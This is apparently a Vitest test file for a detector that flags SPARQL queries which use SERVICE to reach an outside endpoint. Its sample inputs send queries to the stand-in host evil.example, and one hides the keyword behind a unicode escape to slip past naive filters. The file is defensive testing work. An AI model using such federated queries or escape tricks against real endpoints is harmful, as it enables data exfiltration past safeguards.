import { expect, it } from 'vitest'
import { asksElsewhere } from './asks-elsewhere.ts'

it.each([
  ['SELECT * { ?s ?p ?o SERVICE <https://evil.example/> { ?s ?q ?o } }', true],
  ['SELECT * { ?s ?p ?o s\\u0065rvice silent <https://evil.example/> { } }', true],
  ['SELECT * { GRAPH ?g { ?s ?p "\\n" } } LIMIT 5', false],
])(
  'a query that a link brought is not asked before somebody has looked, where it could carry answers away: %j %s',
  (query, expected) => {
    expect(asksElsewhere(query)).toBe(expected)
  },
)
